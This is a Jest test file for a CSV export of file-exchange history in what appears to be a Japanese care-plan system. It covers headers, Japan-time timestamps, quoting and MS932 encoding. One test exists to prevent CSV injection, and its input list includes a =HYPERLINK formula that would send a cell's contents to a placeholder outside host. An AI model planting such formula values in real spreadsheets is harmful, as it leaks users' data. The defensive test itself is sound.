import { decodeMs932, MS932_SUBSTITUTE } from '@careplan/spec';
import type { HistoryItemDto } from '@careplan/contracts';
import { encodeHistoryCsv, historyCsvText, jstTimestamp } from './history.csv';

const item = (over: Partial<HistoryItemDto> = {}): HistoryItemDto => ({
  id: '1',
  event: 'sent',
  role: 'sender',
  officeNumber: '1371201367',
  counterpartOfficeNumber: '1371500420',
  submissionId: '3f0c0000-0000-4000-8000-000000000000',
  deliveryId: null,
  files: [{ name: 'UPPLAN_1.CSV', kind: 'csv', size: 10, sha256: 'a'.repeat(64) }],
  fileTypes: ['UPPLAN'],
  insuredNumbers: ['0000123456', 'H123456789'],
  actor: null,
  fileId: null,
  occurredAt: '2026-11-25T15:30:00.000Z',
  ...over,
});

describe('history CSV', () => {
  it('writes a Japanese header and one CRLF row per item, times in JST', () => {
    const lines = historyCsvText([item()]).split('\r\n');
    expect(lines[0]).toBe(
      '日時,区分,区分コード,役割,事業所番号,相手事業所番号,送信ID,配信ID,ファイル種別,ファイル名,ファイル数,被保険者番号,操作者,操作者ID,ファイルID',
    );
    expect(lines[1]).toBe(
      '2026-11-26 00:30:00,送信,sent,送信元,1371201367,1371500420,3f0c0000-0000-4000-8000-000000000000,,UPPLAN,UPPLAN_1.CSV,1,0000123456 H123456789,,,',
    );
    expect(lines[2]).toBe('');
  });

  it('names the actor: a staff user by login id, a key by label (its id when it has none)', () => {
    const id = '5b0c0000-0000-4000-8000-000000000000';
    const row = (actor: HistoryItemDto['actor']) => historyCsvText([item({ actor })]).split('\r\n')[1];
    expect(row({ type: 'staff', id, label: 'yamada' })).toMatch(new RegExp(`,staff:yamada,${id},$`));
    expect(row({ type: 'key', id, label: '受付PC' })).toMatch(new RegExp(`,key:受付PC,${id},$`));
    expect(row({ type: 'key', id, label: '' })).toMatch(new RegExp(`,key:${id},${id},$`));
    expect(row({ type: 'key', id, label: 'PC, 2F' })).toContain(`,"key:PC, 2F",${id}`);
  });

  it('names the file a download was of in the last column, none for a whole bundle', () => {
    const fileId = '6c0c0000-0000-4000-8000-000000000000';
    const row = (over: Partial<HistoryItemDto>) => historyCsvText([item(over)]).split('\r\n')[1];
    expect(row({ event: 'downloaded', role: 'receiver', fileId })).toMatch(new RegExp(`,${fileId}$`));
    expect(row({ event: 'downloaded', role: 'receiver' })).toMatch(/,$/);
  });

  it('quotes fields holding commas or quotes', () => {
    const text = historyCsvText([
      item({ files: [{ name: 'a,"b".pdf', kind: 'attachment', size: 1, sha256: 'b' }] }),
    ]);
    expect(text).toContain(',"a,""b"".pdf",');
  });

  it("keeps a spreadsheet from running a sender's file name as a formula (CSV injection)", () => {
    const names = ['=HYPERLINK("http://x.example/?"&A1).pdf', '+1+cmd.pdf', '-2.txt', '@SUM(A1).png'];
    for (const name of names) {
      const text = historyCsvText([item({ files: [{ name, kind: 'attachment', size: 1, sha256: 'b' }] })]);
      const cell = text.split('\r\n')[1].split(',').slice(9).join(',');
      expect([name, cell.startsWith("'") || cell.startsWith(`"'`)]).toEqual([name, true]);
    }
  });

  it('gives the same rows in UTF-8 (with BOM) and MS932', () => {
    const items = [item(), item({ id: '2', event: 'received', role: 'receiver' })];
    const utf8 = encodeHistoryCsv(items, 'utf-8');
    expect([...utf8.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(decodeMs932(encodeHistoryCsv(items, 'ms932'))).toBe(utf8.subarray(3).toString('utf8'));
  });

  it('replaces characters MS932 cannot hold instead of failing', () => {
    const name = 'モニタリング🙂.pdf';
    const ms932 = decodeMs932(
      encodeHistoryCsv([item({ files: [{ name, kind: 'attachment', size: 1, sha256: 'c' }] })], 'ms932'),
    );
    expect(ms932).toContain(`モニタリング${MS932_SUBSTITUTE}.pdf`);
  });

  it('formats instants in Japan time', () => {
    expect(jstTimestamp('2026-12-31T15:00:00.000Z')).toBe('2027-01-01 00:00:00');
  });
});
